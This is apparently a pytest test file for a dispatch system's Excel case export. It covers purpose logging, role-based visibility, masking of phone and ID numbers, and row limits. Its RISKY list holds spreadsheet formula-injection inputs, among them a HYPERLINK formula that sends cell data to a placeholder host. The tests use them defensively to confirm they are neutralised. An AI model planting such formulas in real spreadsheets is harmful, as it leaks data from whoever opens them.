"""Cases as a file: for a purpose only, with an event, without a formula, masked, of the scope."""

from __future__ import annotations

import io
import json
import re
import zipfile
from collections.abc import Callable
from datetime import datetime
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

import dispatch.export
from tests.small_town import connect
from tests.town_staff import THERE
from tests.web.browser_client import Client
from tests.web.test_case_flow import report

SignIn = Callable[[str], Client]
PURPOSE = "周例会通报"
RISKY = ('=HYPERLINK("http://x/?"&A1,"开")', "+1+1", "-1-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1")
HEADS = {"zh": ("编号", "内容"), "en": ("Number", "Description")}


def export(client: Client, **body: Any) -> Any:
    return client.post("/api/v1/cases/export", json={"purpose": PURPOSE, **body})


def sheet_of(answer: Any) -> Worksheet:
    assert answer.status_code == 200, answer.text
    return openpyxl.load_workbook(io.BytesIO(answer.data)).worksheets[0]


def rows_of(sheet: Worksheet) -> list[dict[str, Any]]:
    heads = [cell.value for cell in sheet[1]]
    return [
        dict(zip(heads, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)
    ]


def events(dsn: str) -> list[dict[str, Any]]:
    with connect(dsn) as conn:
        return conn.execute(
            "SELECT kind, actor, area_code, case_id, payload FROM geodata.events_pending"
            " WHERE kind LIKE 'export.%' ORDER BY id"
        ).fetchall()


def purposes(dsn: str) -> list[dict[str, Any]]:
    with connect(dsn) as conn:
        return conn.execute("SELECT * FROM dispatch.purposes ORDER BY id").fetchall()


@pytest.mark.parametrize("purpose", [None, "", "   ", "\n\t", "长" * 501])
def test_without_a_purpose_nothing_is_told_and_nothing_recorded(
    sign_in: SignIn, module_town: str, purpose: str | None
):
    desk = sign_in("dispatcher")
    report(desk)
    body = {} if purpose is None else {"purpose": purpose}
    answer = desk.post("/api/v1/cases/export", json=body)
    assert answer.status_code == 422
    assert answer.json["field"] == "purpose"
    assert events(module_town) == []
    assert purposes(module_town) == []


def test_a_purpose_is_kept_and_an_event_tells_of_it_without_its_words(
    sign_in: SignIn, module_town: str
):
    desk = sign_in("street.dispatcher")
    report(desk)
    report(sign_in("dispatcher"), THERE)
    answer = export(desk, state=["open"], q="井盖", purpose=f"  {PURPOSE} ")
    assert answer.headers["Ganxin-Rows"] == "1"
    assert answer.headers["Ganxin-Cut"] == "false"
    assert answer.headers["Cache-Control"] == "no-store"
    assert ".xlsx" in answer.headers["Content-Disposition"]
    (event,) = events(module_town)
    user = desk.get("/api/v1/session").json["user"]
    facts = {"count": 1, "cut": False, "filter": {"states": ["open"], "text": True}}
    assert event == {
        "kind": "export.made",
        "actor": f"u:{user['id']}",
        "area_code": user["area_codes"][0],
        "case_id": None,
        "payload": facts,
    }
    (kept,) = purposes(module_town)
    assert (kept["purpose"], kept["subject"]) == (PURPOSE, f"u:{user['id']}")
    assert kept["facts"] == facts
    told = json.dumps(event["payload"], ensure_ascii=False)
    assert PURPOSE not in told
    assert "井盖" not in told


def test_a_purpose_is_seen_by_whoever_it_is_of_and_from_above(sign_in: SignIn, module_town: str):
    clerk, street = sign_in("clerk"), sign_in("street.dispatcher")
    export(clerk)
    export(street)
    subjects = {c: f"u:{c.get('/api/v1/session').json['user']['id']}" for c in (clerk, street)}
    seen = []
    for client, area in ((clerk, "210211001001"), (street, "210211001")):
        with connect(module_town) as conn:
            conn.execute("SET ROLE ganxin_app")
            conn.execute(
                "SELECT set_config('ganxin.areas', %s, true),"
                " set_config('ganxin.subjects', %s, true)",
                (area, subjects[client]),
            )
            rows = conn.execute("SELECT subject FROM dispatch.purposes ORDER BY id").fetchall()
            seen.append([row["subject"] for row in rows])
    assert seen == [[subjects[clerk]], [subjects[clerk], subjects[street]]]
    with connect(module_town) as conn:
        conn.execute("SET ROLE ganxin_app")
        assert conn.execute("SELECT 1 FROM dispatch.purposes").fetchall() == []


def test_supervision_reads_what_everybody_took_others_read_their_own(sign_in: SignIn):
    for name in ("clerk", "other.dispatcher", "dispatcher", "clerk"):
        export(sign_in(name), purpose=f"{name}的")
    seen = {
        name: [
            (one["by_name"], one["purpose"])
            for one in sign_in(name).get("/api/v1/purposes").json["items"]
        ]
        for name in ("supervisor", "commander", "dispatcher", "street.dispatcher", "clerk")
    }
    mine = ("clerk", "clerk的")
    everybody = [
        mine,
        ("dispatcher", "dispatcher的"),
        ("other.dispatcher", "other.dispatcher的"),
        mine,
    ]
    assert seen == {
        "supervisor": everybody,
        "commander": everybody,
        "dispatcher": [("dispatcher", "dispatcher的")],
        "street.dispatcher": [],
        "clerk": [mine, mine],
    }
    first = sign_in("supervisor").get("/api/v1/purposes?limit=3").json
    rest = sign_in("supervisor").get(f"/api/v1/purposes?limit=3&cursor={first['next']}").json
    ids = [one["id"] for one in first["items"] + rest["items"]]
    assert len(ids) == 4
    assert ids == sorted(ids, reverse=True)
    assert rest["next"] is None
    assert sign_in("worker").get("/api/v1/purposes").status_code == 403


@pytest.mark.parametrize("locale", ["zh", "en"])
def test_no_text_becomes_a_formula(sign_in: SignIn, locale: str):
    desk = sign_in("dispatcher")
    for words in RISKY:
        report(desk, description=words, address=f"={words}")
    answer = desk.post(f"/api/v1/cases/export?lang={locale}", json={"purpose": PURPOSE})
    sheet = sheet_of(answer)
    assert tuple(HEADS[locale]) == (sheet["A1"].value, sheet["L1"].value)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t")):
                assert cell.quotePrefix, cell.coordinate
    said = [row[HEADS[locale][1]] for row in rows_of(sheet)]
    assert RISKY[0] in said
    assert len(said) == len(RISKY)
    with zipfile.ZipFile(io.BytesIO(answer.data)) as parts:
        for name in parts.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >/]", parts.read(name))
        assert not [name for name in parts.namelist() if "external" in name.lower()]


def test_times_are_local_and_numbers_are_numbers(sign_in: SignIn):
    desk = sign_in("dispatcher")
    made = report(desk, reported_at="2026-11-20T17:30:00Z")
    (row,) = rows_of(sheet_of(export(desk)))
    assert row["编号"] == made["number"]
    assert row["上报时间"] == datetime(2026, 11, 21, 1, 30)
    assert row["流转次数"] == 0
    assert (row["街道"], row["持有层级"], row["状态"]) == ("第1街道", "社区", "待派遣")


def test_personal_data_are_masked(sign_in: SignIn):
    desk = sign_in("dispatcher")
    report(desk, description="找王某13812345678，证210211198001011234", address="横0路5号2单元301")
    answer = export(desk)
    (row,) = rows_of(sheet_of(answer))
    assert row["内容"] == "找王某138****5678，证210211********1234"
    assert row["地址"] == "横0路5号*单元***"
    with zipfile.ZipFile(io.BytesIO(answer.data)) as parts:
        text = b"".join(parts.read(name) for name in parts.namelist())
    assert not re.search(rb"13812345678|19800101|2\xe5\x8d\x95\xe5\x85\x83301", text)


def test_rows_are_those_of_the_list_in_its_order(sign_in: SignIn):
    desk = sign_in("dispatcher")
    made = [report(desk, type=kind)["number"] for kind in ("H15", "H01", "H15")]
    report(desk, THERE)
    listed = desk.get("/api/v1/cases?area=210211001&order=due").json["items"]
    rows = rows_of(sheet_of(export(desk, area="210211001", order="due")))
    assert [row["编号"] for row in rows] == [one["number"] for one in listed]
    assert {row["编号"] for row in rows} == set(made)
    street = rows_of(sheet_of(export(sign_in("other.dispatcher"))))
    assert [row["街道"] for row in street] == ["第2街道"]


def test_a_file_that_is_cut_says_so(sign_in: SignIn, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(dispatch.export, "MOST_ROWS", 2)
    desk = sign_in("dispatcher")
    for _ in range(3):
        report(desk)
    answer = export(desk)
    assert answer.headers["Ganxin-Rows"] == "2"
    assert answer.headers["Ganxin-Cut"] == "true"
    book = openpyxl.load_workbook(io.BytesIO(answer.data))
    assert len(rows_of(book.worksheets[0])) == 2
    assert book.worksheets[1]["A2"].value == "未全部导出"


@pytest.mark.parametrize("name", ["worker", "mediator", "judge", "planner", "admin", "gateway"])
def test_other_roles_take_nothing_out(sign_in: SignIn, module_town: str, name: str):
    assert export(sign_in(name)).status_code == 403
    assert events(module_town) == []
